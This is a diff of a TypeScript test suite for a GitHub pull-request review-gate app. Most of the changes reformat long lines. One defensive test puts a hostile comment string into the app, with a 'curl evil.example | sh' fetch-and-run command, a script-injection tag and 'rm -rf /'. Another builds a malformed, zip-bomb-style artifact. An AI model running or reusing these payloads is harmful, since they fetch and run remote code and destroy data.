@@ -51,9 +51,17 @@ afterEach(() => {
 /** A fresh repository with the policy on main and one open pull request touching `files`. */
 function setup(files: FakeFile[], opts: { config?: string; owners?: string; author?: string } = {}) {
   const repo = fake.state.repo("acme", `repo-${++repoCount}`);
-  fake.state.commit(repo, "main", { ".github/squadgate.yml": opts.config ?? CONFIG, ".github/SQUADOWNERS": opts.owners ?? OWNERS });
+  fake.state.commit(repo, "main", {
+    ".github/squadgate.yml": opts.config ?? CONFIG,
+    ".github/SQUADOWNERS": opts.owners ?? OWNERS,
+  });
   fake.state.teams.set("acme/data-science", ["dora", "dana"]);
-  const pull = fake.state.pull(repo, { number: 7, headSha: sha(1), files, ...(opts.author ? { author: opts.author } : {}) });
+  const pull = fake.state.pull(repo, {
+    number: 7,
+    headSha: sha(1),
+    files,
+    ...(opts.author ? { author: opts.author } : {}),
+  });
   return { repo, pull };
 }
 
@@ -70,7 +78,8 @@ async function eventually(check: () => boolean, timeoutMs = 25_000): Promise<voi
     await new Promise((resolve) => setTimeout(resolve, 100));
   }
 }
-const checksOn = (repo: FakeRepo, head: string) => repo.checkRuns.filter((r) => r.head_sha === head && r.name === "Squadgate");
+const checksOn = (repo: FakeRepo, head: string) =>
+  repo.checkRuns.filter((r) => r.head_sha === head && r.name === "Squadgate");
 const prompt: FakeFile = { filename: "prompts/support.txt", status: "modified" };
 
 describe("the server", { timeout: 40_000 }, () => {
@@ -87,7 +96,13 @@ describe("the server", { timeout: 40_000 }, () => {
     expect(pull.requestedUsers).toEqual(["dana"]);
     expect(pull.requestedTeams).toEqual(["data-science"]);
 
-    pull.reviews.push({ id: 1, login: "dora", state: "APPROVED", commit_id: pull.headSha, submitted_at: new Date().toISOString() });
+    pull.reviews.push({
+      id: 1,
+      login: "dora",
+      state: "APPROVED",
+      commit_id: pull.headSha,
+      submitted_at: new Date().toISOString(),
+    });
     await send({ name: "pull_request_review", payload: reviewEvent(repo, pull, "dora", "APPROVED") });
     expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "success" }]);
   });
@@ -110,9 +125,18 @@ describe("the server", { timeout: 40_000 }, () => {
 
     const first = pullRequestEvent(repo, pull, "synchronize");
     pull.headSha = sha(2);
-    pull.reviews.push({ id: 2, login: "dana", state: "APPROVED", commit_id: sha(2), submitted_at: new Date().toISOString() });
+    pull.reviews.push({
+      id: 2,
+      login: "dana",
+      state: "APPROVED",
+      commit_id: sha(2),
+      submitted_at: new Date().toISOString(),
+    });
     const second = pullRequestEvent(repo, pull, "synchronize");
-    await Promise.all([send({ name: "pull_request", payload: first }), send({ name: "pull_request", payload: second })]);
+    await Promise.all([
+      send({ name: "pull_request", payload: first }),
+      send({ name: "pull_request", payload: second }),
+    ]);
     expect(checksOn(repo, sha(2))).toMatchObject([{ conclusion: "success" }]);
     expect(checksOn(repo, sha(1))).toHaveLength(1);
     expect(fake.writes(/requested_reviewers/)).toHaveLength(1);
@@ -144,9 +168,15 @@ describe("the server", { timeout: 40_000 }, () => {
 
   it("survives deliveries for repositories it cannot reach and for installations it does not have", async () => {
     const { repo, pull } = setup([prompt]);
-    const ghost = { ...pullRequestEvent(repo, pull, "opened"), repository: { ...pullRequestEvent(repo, pull, "opened")["repository"], name: "gone", full_name: "acme/gone" } };
+    const ghost = {
+      ...pullRequestEvent(repo, pull, "opened"),
+      repository: { ...pullRequestEvent(repo, pull, "opened")["repository"], name: "gone", full_name: "acme/gone" },
+    };
     await send({ name: "pull_request", payload: ghost });
-    await send({ name: "pull_request", payload: { ...pullRequestEvent(repo, pull, "opened"), installation: { id: 99 } } });
+    await send({
+      name: "pull_request",
+      payload: { ...pullRequestEvent(repo, pull, "opened"), installation: { id: 99 } },
+    });
     expect((await fetch(`${app.url}/healthz`)).status).toBe(200);
     expect(repo.checkRuns).toEqual([]);
   });
@@ -160,7 +190,10 @@ describe("the server", { timeout: 40_000 }, () => {
   });
 
   it("a 3,000-file pull request with spaces and Unicode in its paths", async () => {
-    const files: FakeFile[] = Array.from({ length: 3000 }, (_, i) => ({ filename: `src/module ${i}/файл-${i}.ts`, status: "modified" }));
+    const files: FakeFile[] = Array.from({ length: 3000 }, (_, i) => ({
+      filename: `src/module ${i}/файл-${i}.ts`,
+      status: "modified",
+    }));
     files[2999] = { filename: "prompts/réponse d'accueil.txt", status: "modified" };
     const { repo, pull } = setup(files);
     await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
@@ -170,14 +203,22 @@ describe("the server", { timeout: 40_000 }, () => {
   });
 
   it("/owners and the check on a 3,000-file pull request with long paths stay within GitHub's limits", async () => {
-    const files: FakeFile[] = Array.from({ length: 3000 }, (_, i) => ({ filename: `prompts/${"a-rather-deep-folder/".repeat(15)}prompt-${i}.txt`, status: "modified" }));
+    const files: FakeFile[] = Array.from({ length: 3000 }, (_, i) => ({
+      filename: `prompts/${"a-rather-deep-folder/".repeat(15)}prompt-${i}.txt`,
+      status: "modified",
+    }));
     const { repo, pull } = setup(files);
     await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
     repo.comments.push({ id: 601, issue: pull.number, body: "/owners", login: "dana", type: "User", reactions: [] });
-    await send({ name: "issue_comment", payload: commentEvent(repo, pull, { id: 601, body: "/owners", login: "dana" }) });
+    await send({
+      name: "issue_comment",
+      payload: commentEvent(repo, pull, { id: 601, body: "/owners", login: "dana" }),
+    });
     expect(fake.refusals).toEqual([]);
     expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "action_required" }]);
-    expect(checksOn(repo, pull.headSha)[0]?.output.summary).toContain("more not shown; `squadgate check --json` lists every file.");
+    expect(checksOn(repo, pull.headSha)[0]?.output.summary).toContain(
+      "more not shown; `squadgate check --json` lists every file.",
+    );
     const owners = repo.comments.find((c) => c.body.startsWith("<!-- squadgate:owners -->"));
     expect(owners?.body).toContain("more not shown");
     expect(repo.comments.find((c) => c.id === 601)?.reactions).toEqual(["+1"]);
@@ -187,7 +228,10 @@ describe("the server", { timeout: 40_000 }, () => {
     const { repo, pull } = setup([{ filename: "datasets/b.csv", status: "modified" }]);
     const hostile = "/waive legal $(curl evil.example | sh) <script>alert(1)</script> `rm -rf /` |table|";
     repo.comments.push({ id: 501, issue: pull.number, body: hostile, login: "mallory", type: "User", reactions: [] });
-    await send({ name: "issue_comment", payload: commentEvent(repo, pull, { id: 501, body: hostile, login: "mallory" }) });
+    await send({
+      name: "issue_comment",
+      payload: commentEvent(repo, pull, { id: 501, body: hostile, login: "mallory" }),
+    });
     expect(repo.comments.find((c) => c.id === 501)?.reactions).toEqual(["confused"]);
     const reply = repo.comments.find((c) => c.login.endsWith("[bot]"));
     expect(reply?.body).toContain("you may not waive `legal`");
@@ -195,17 +239,45 @@ describe("the server", { timeout: 40_000 }, () => {
     expect(pull.labels).toEqual([]);
 
     const before = fake.requests.length;
-    await send({ name: "issue_comment", payload: commentEvent(repo, pull, { id: 502, body: "/recheck", login: "other-app[bot]", type: "Bot" }) });
+    await send({
+      name: "issue_comment",
+      payload: commentEvent(repo, pull, { id: 502, body: "/recheck", login: "other-app[bot]", type: "Bot" }),
+    });
     expect(fake.requests.length).toBe(before);
   });
 
   it("eval artifacts that are zip bombs or malformed are refused in the comment, never passed", async () => {
     const config = `${CONFIG}\nevals:\n  workflow: eval.yml\n`;
     const { repo, pull } = setup([prompt], { config });
-    pull.reviews.push({ id: 3, login: "dana", state: "APPROVED", commit_id: pull.headSha, submitted_at: new Date().toISOString() });
-    repo.runs.push({ id: 90, workflow: "eval.yml", event: "push", head_sha: sha(9), head_branch: "main", status: "completed", conclusion: "success", display_title: "main" });
-    repo.artifacts.push({ id: 91, runId: 90, name: "squadgate-evals", zip: makeZip([{ name: "support.json", data: '{"pass_rate": 0.9}' }]) });
-    repo.artifacts.push({ id: 92, runId: 95, name: "squadgate-evals", zip: makeZip([{ name: "support.json", data: Buffer.alloc(4 * 1024 * 1024, 32), declaredSize: 64 }]) });
+    pull.reviews.push({
+      id: 3,
+      login: "dana",
+      state: "APPROVED",
+      commit_id: pull.headSha,
+      submitted_at: new Date().toISOString(),
+    });
+    repo.runs.push({
+      id: 90,
+      workflow: "eval.yml",
+      event: "push",
+      head_sha: sha(9),
+      head_branch: "main",
+      status: "completed",
+      conclusion: "success",
+      display_title: "main",
+    });
+    repo.artifacts.push({
+      id: 91,
+      runId: 90,
+      name: "squadgate-evals",
+      zip: makeZip([{ name: "support.json", data: '{"pass_rate": 0.9}' }]),
+    });
+    repo.artifacts.push({
+      id: 92,
+      runId: 95,
+      name: "squadgate-evals",
+      zip: makeZip([{ name: "support.json", data: Buffer.alloc(4 * 1024 * 1024, 32), declaredSize: 64 }]),
+    });
     const run = {
       id: 95,
       name: "Squadgate eval",
@@ -216,11 +288,31 @@ describe("the server", { timeout: 40_000 }, () => {
       head_sha: pull.headSha,
       head_branch: pull.headRef,
       html_url: "https://github.com/acme/runs/95",
-      pull_requests: [{ number: pull.number, head: { sha: pull.headSha, ref: pull.headRef }, base: { ref: "main", sha: pull.baseSha } }],
+      pull_requests: [
+        {
+          number: pull.number,
+          head: { sha: pull.headSha, ref: pull.headRef },
+          base: { ref: "main", sha: pull.baseSha },
+        },
+      ],
       head_repository: { id: repo.id, owner: { login: "acme" } },
       repository: { id: repo.id },
     };
-    await send({ name: "workflow_run", payload: { action: "completed", workflow_run: run, repository: { id: repo.id, name: repo.name, full_name: `acme/${repo.name}`, owner: { login: "acme" }, default_branch: "main" }, installation: { id: 1 } } });
+    await send({
+      name: "workflow_run",
+      payload: {
+        action: "completed",
+        workflow_run: run,
+        repository: {
+          id: repo.id,
+          name: repo.name,
+          full_name: `acme/${repo.name}`,
+          owner: { login: "acme" },
+          default_branch: "main",
+        },
+        installation: { id: 1 },
+      },
+    });
     const comment = repo.comments.find((c) => c.body.startsWith("<!-- squadgate:eval -->"));
     expect(comment?.body).toContain("the zip is damaged or lies about its sizes");
     expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "action_required" }]);
